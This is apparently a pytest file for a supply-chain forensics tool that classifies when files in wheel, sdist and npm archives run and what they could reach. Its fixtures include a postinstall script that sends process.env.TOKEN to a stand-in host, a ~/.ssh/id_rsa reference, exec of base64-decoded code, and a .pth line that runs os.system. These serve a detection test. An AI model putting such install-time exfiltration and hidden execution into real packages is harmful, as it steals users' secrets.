"""Ordinary archives: what is read of them, when their files can run, and what they could touch."""

from __future__ import annotations

import hashlib
import json

import pytest

from forensics.compare.archives import read_contents, read_texts
from forensics.compare.python_reach import read_code, read_pth
from forensics.model.contents import (
    CREDENTIALS,
    DECODED,
    DYNAMIC,
    ENVIRONMENT,
    NATIVE,
    NETWORK,
    PROCESS,
    Contents,
    Runs,
)
from tests.compare.making import blob, sdist_contents, tarred, wheel, wheel_contents


def _runs(contents: Contents) -> dict[str, Runs]:
    return {m.path.removeprefix(contents.root): m.runs for m in contents.members if m.executable}


def test_a_wheel_is_read_member_by_member() -> None:
    text = b"VALUE = 1\r\n"
    contents = wheel_contents({"thing/core.py": text, "thing/a.txt": b"a"})
    core = next(m for m in contents.members if m.path == "thing/core.py")
    assert (core.size, core.sha256, core.blob) == (len(text), hashlib.sha256(text).hexdigest(), blob(text))
    assert core.lf_blob == blob(b"VALUE = 1\n")
    assert contents.problems == ()
    assert [m.path for m in contents.members] == sorted(m.path for m in contents.members)
    assert contents.unpacked == sum(m.size for m in contents.members)


def test_what_a_wheel_runs_when() -> None:
    contents = wheel_contents(
        {
            "thing/__init__.py": b"from . import a\nfrom thing.sub.b import f\nf()\n",
            "thing/a.py": b"def late():\n    from . import lazy\n",
            "thing/lazy.py": b"x = 1\n",
            "thing/sub/__init__.py": b"",
            "thing/sub/b.py": b"def f():\n    import thing.sub.c\nf()\n",
            "thing/sub/c.py": b"import importlib\nimportlib.import_module('.d', 'thing.sub')\n",
            "thing/fast.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
            "thing/note.txt": b"x",
            "thing/program": b"#!/bin/sh\n",
            "thing.pth": b"import thing.boot\n",
            "thing/boot.py": b"",
            "thing/weights/model.pth": b"\x80\x02}q",
            "usercustomize.py": b"",
            "thing-1.0.data/purelib/late.pth": b"import sys\n",
            "thing-1.0.data/scripts/run": b"#!python\n",
            "single.py": b"",
        }
    )
    assert _runs(contents) == {
        "thing/__init__.py": Runs.START,  # the .pth file imports thing.boot, and so thing
        "thing/a.py": Runs.START,
        "thing/lazy.py": Runs.CALLED,
        "thing/sub/__init__.py": Runs.START,
        "thing/sub/b.py": Runs.START,
        "thing/sub/c.py": Runs.START,
        "thing/fast.cpython-311-x86_64-linux-gnu.so": Runs.CALLED,
        "thing/program": Runs.CALLED,
        "thing.pth": Runs.START,
        "thing/boot.py": Runs.START,
        "thing/weights/model.pth": Runs.CALLED,
        "usercustomize.py": Runs.START,
        "thing-1.0.data/purelib/late.pth": Runs.START,
        "thing-1.0.data/scripts/run": Runs.CALLED,
        "single.py": Runs.IMPORT,
    }


def test_what_an_sdist_runs_when() -> None:
    build = b'[build-system]\nrequires = []\nbuild-backend = "own.backend"\nbackend-path = ["_build"]\n'
    contents = sdist_contents(
        {
            "setup.py": b"from tools import helper\nimport versions\n",
            "versions.py": b"",
            "tools/__init__.py": b"",
            "tools/helper.py": b"",
            "pyproject.toml": build,
            "_build/own/backend.py": b"",
            "src/thing/__init__.py": b"from .core import x\n",
            "src/thing/core.py": b"",
            "tests/__init__.py": b"",
            "noxfile.py": b"",
        },
        metadata=b"Metadata-Version: 2.1\nRequires-Dist: b (>=1)\nRequires-Dist: a @\n  https://x.example/a.whl\n\n"
        b"Requires-Dist: only in the description\n",
    )
    assert contents.root == "thing-1.0/"
    assert contents.hooks == ("build backend own.backend from the archive itself", "setup.py")
    assert contents.dependencies == ("a @ https://x.example/a.whl", "b (>=1)")
    runs = _runs(contents)
    at_install = {path for path, when in runs.items() if when is Runs.INSTALL}
    assert at_install == {"setup.py", "versions.py", "tools/__init__.py", "tools/helper.py", "_build/own/backend.py"}
    assert runs["src/thing/core.py"] is Runs.IMPORT
    assert {runs["tests/__init__.py"], runs["noxfile.py"]} == {Runs.CALLED}


def test_a_distribution_of_single_modules() -> None:
    """What the project is named after and what setuptools is told of is installed; what lies beside it is not."""
    files = {
        "My_Thing.py": b"import _helper\n",
        "_helper.py": b"import socket\n",
        "extra.py": b"",
        "tasks.py": b"import subprocess\n",
        "pyproject.toml": b'[tool.setuptools]\npy-modules = ["extra", 1]\n',
    }
    named = b"Metadata-Version: 2.1\nName: my.thing\n\nName: tasks\n"
    runs = _runs(sdist_contents(files, metadata=named))
    assert {path for path, when in runs.items() if when is Runs.IMPORT} == {"My_Thing.py", "_helper.py", "extra.py"}
    assert runs["tasks.py"] is Runs.CALLED
    other = _runs(sdist_contents(files | {"pyproject.toml": b""}, metadata=b"Name: other\n"))
    assert Runs.IMPORT not in other.values()


def test_an_npm_tarball() -> None:
    package = {
        "main": "./lib/index.js",
        "scripts": {"postinstall": "node ./setup.mjs", "test": "x"},
        "dependencies": {"a": "^1", "b": "git+ssh://git@forge.example/x/b.git"},
    }
    files = {
        "package/package.json": json.dumps(package).encode(),
        "package/lib/index.js": b"const { execSync } = require('child_process')",
        "package/setup.mjs": b"fetch('https://x.example', {body: process.env.TOKEN})",
        "package/readme.md": b"",
    }
    contents = read_contents(tarred(files), "thing-1.0.tgz")
    assert contents.hooks == ("postinstall: node ./setup.mjs",)
    assert contents.dependencies == ("a@^1", "b@git+ssh://git@forge.example/x/b.git")
    assert _runs(contents) == {
        "package.json": Runs.INSTALL,
        "lib/index.js": Runs.IMPORT,
        "setup.mjs": Runs.INSTALL,
    }
    reaches = {m.path: m.reaches for m in contents.members}
    assert reaches["package/setup.mjs"] == tuple(sorted((NETWORK, ENVIRONMENT)))
    assert reaches["package/lib/index.js"] == (PROCESS,)


@pytest.mark.parametrize(
    ("source", "reaches"),
    [
        ("import subprocess", {PROCESS}),
        ("import os\nos.system('x')", {PROCESS}),
        ("from os import system as s\ns('x')", {PROCESS}),
        ("import os as o\ngetattr(o, 'popen')('x')", {PROCESS}),
        ("__import__('subprocess').run('x')", {PROCESS}),
        ("import importlib\nimportlib.import_module('socket')", {NETWORK}),
        ("import urllib.request", {NETWORK}),
        ("from urllib import request", {NETWORK}),
        ("from urllib.parse import quote", set()),
        ("import os.path\nos.path.join('a')", set()),
        ("import asyncio\nasyncio.create_subprocess_exec('x')", {PROCESS}),
        ("import ctypes", {NATIVE}),
        ("import os\nos.environ['X']", {ENVIRONMENT}),
        ("p = '~/.ssh/id_rsa'", {CREDENTIALS}),
        ("'''Reads ~/.ssh/id_rsa.'''", set()),
        ("exec(open('x').read())", {DYNAMIC}),
        ("exec('x = 1')", set()),
        ("import re\nre.compile('x')", set()),
        ("import base64\nexec(base64.b64decode('eA=='))", {DECODED}),
        ("import zlib, base64\nz = zlib.decompress(b'')\nexec(z)", {DECODED}),
        ("import marshal\nexec(marshal.loads(b''))", {DECODED, DYNAMIC}),
        ("def f():\n    import requests", {NETWORK}),
    ],
)
def test_what_code_could_touch(source: str, reaches: set[str]) -> None:
    assert set(read_code(source.encode()).reaches) - ({DYNAMIC} if DECODED in reaches else set()) == reaches - (
        {DYNAMIC} if DECODED in reaches else set()
    )


@pytest.mark.parametrize(
    "source",
    [
        b"import socket\nprint 'python 2'\n",
        b"import socket\n\0",
        b"import socket\nx = " + b"(" * 5000,
        b"import socket\nx = " + b"-" * 50_000 + b"1",
        b"import socket\n" + b"x = 1\n" * 500_000,
        b"import socket\nx" + b".a()" * 3000,
    ],
    ids=["old", "nul", "brackets", "signs", "long", "chain"],
)
def test_what_cannot_be_parsed_is_searched_as_text_and_said(source: bytes) -> None:
    facts = read_code(source)
    assert NETWORK in facts.reaches
    assert facts.problem or source.endswith(b".a()")


def test_only_import_lines_of_a_pth_file_run() -> None:
    assert read_pth(b"../other\n# import os\n") is None
    facts = read_pth(b"../other\nimport os; os.system('x')\n")
    assert facts is not None
    assert facts.reaches == (PROCESS,)


def test_texts_are_read_within_limits() -> None:
    data = wheel({"thing/a.py": b"a", "thing/b.py": b"b" * 100})
    found = read_texts(data, "thing-1.0-py3-none-any.whl", lambda path: path.startswith("thing/"), 50)
    assert found == {"thing/a.py": b"a"}


def test_what_a_file_could_touch_depends_on_how_it_is_named() -> None:
    """The bytes of a file that is no code, or code of another language, tell nothing about the same bytes elsewhere."""
    source = b"require('child_process')\nimport('socket')\n"
    paths = ("thing/a.d.ts", "thing/b.txt", "thing/c.ts", "thing/d.py", "thing/e.ts")
    reaches = {m.path: m.reaches for m in wheel_contents(dict.fromkeys(paths, source)).members}
    assert [reaches[path] for path in paths[:2]] == [(), ()]
    assert reaches["thing/c.ts"]
    assert reaches["thing/c.ts"] == reaches["thing/e.ts"] != reaches["thing/d.py"]


def test_a_file_seen_in_another_archive_reads_the_same() -> None:
    files = {"thing/a.py": b"import socket\nsocket.create_connection(('x', 1))\n", "thing/b.py": b"def (:\n"}
    first, second = wheel_contents(files), wheel_contents(files)
    assert first == second
    assert [m.reaches for m in first.members if m.path == "thing/a.py"] == [("the network",)]
